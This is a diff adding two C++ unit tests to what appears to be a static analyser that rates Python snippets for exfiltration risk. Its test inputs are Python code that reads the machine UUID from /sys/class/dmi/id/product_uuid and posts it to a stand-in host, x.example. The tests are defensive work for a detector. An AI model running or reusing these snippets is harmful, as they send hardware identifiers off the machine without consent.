@@ -96,3 +96,24 @@ TEST(AssessBindings, PathsFromAConfigObjectAreReadWhereverTheyGo) {
                         "requests.post('https://x.example/u', json=texts)\n"),
             RiskLevel::medium);
 }
+
+TEST(AssessBindings, AFunctionDefaultStoredOnSelfIsCalledThere) {
+  // def __init__(self, cat=_cat): self.cat = cat ... self.cat(path): _cat reads the path.
+  auto probe = [](const char* path) {
+    return std::string("import requests\nfrom pathlib import Path\ndef _cat(path):\n    return path.read_text()\n"
+                       "class Probe:\n    def __init__(self, cat=_cat):\n        self.cat = cat\n"
+                       "    def dmi(self):\n        return self.cat(Path('") +
+           path + "'))\nrequests.post('https://x.example/a', json=Probe().dmi())\n";
+  };
+  EXPECT_EQ(level(probe("/sys/class/dmi/id/product_uuid")), RiskLevel::high);
+  EXPECT_EQ(level(probe("license.txt")), RiskLevel::medium);
+}
+
+TEST(AssessBindings, AMethodIsNotAnotherClassesAttributeOfItsName) {
+  // HW's field `dmi` must not stand for Probe's method dmi() in self.dmi().
+  EXPECT_EQ(level("import requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass HW:\n"
+                  "    dmi: dict = field(default_factory=dict)\nclass Probe:\n    def dmi(self):\n"
+                  "        return open('/sys/class/dmi/id/product_uuid').read()\n    def profile(self):\n"
+                  "        return HW(self.dmi())\nrequests.post('https://x.example/a', json=Probe().profile())\n"),
+            RiskLevel::high);
+}
